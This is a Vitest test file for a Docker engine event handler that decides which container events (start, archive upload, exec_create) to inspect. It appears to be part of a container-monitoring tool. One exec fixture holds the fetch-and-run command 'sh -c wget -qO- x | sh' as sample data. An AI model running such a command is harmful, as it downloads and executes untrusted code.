import { describe, expect, it } from 'vitest';
import { reactionTo, sinceParam } from './engine-event.js';

describe('reactionTo', () => {
  it('inspects containers on create and start, and on archive upload', () => {
    expect(reactionTo({ Type: 'container', Action: 'start', Actor: { ID: 'abc' } })).toMatchObject({ kind: 'container', containerId: 'abc' });
    expect(reactionTo({ Type: 'container', Action: 'extract-to-dir', Actor: { ID: 'abc' } })).toMatchObject({ why: 'archive upload' });
  });
  it('reads the exec command and id from exec events', () => {
    const r = reactionTo({ Type: 'container', Action: 'exec_create: sh -c wget -qO- x | sh', Actor: { ID: 'c1', Attributes: { execID: 'e1' } } });
    expect(r).toEqual({ kind: 'exec', containerId: 'c1', execId: 'e1', command: 'sh -c wget -qO- x | sh', why: 'exec_create' });
  });
  it('ignores its own top calls and network noise', () => {
    expect(reactionTo({ Type: 'container', Action: 'top', Actor: { ID: 'c' } })).toBeUndefined();
    expect(reactionTo({ Type: 'network', Action: 'connect', Actor: { ID: 'n' } })).toBeUndefined();
  });
  it('formats since with nanoseconds', () => {
    expect(sinceParam(1795913389447828102n)).toBe('1795913389.447828102');
    expect(sinceParam(5_000_000_001n)).toBe('5.000000001');
  });
});
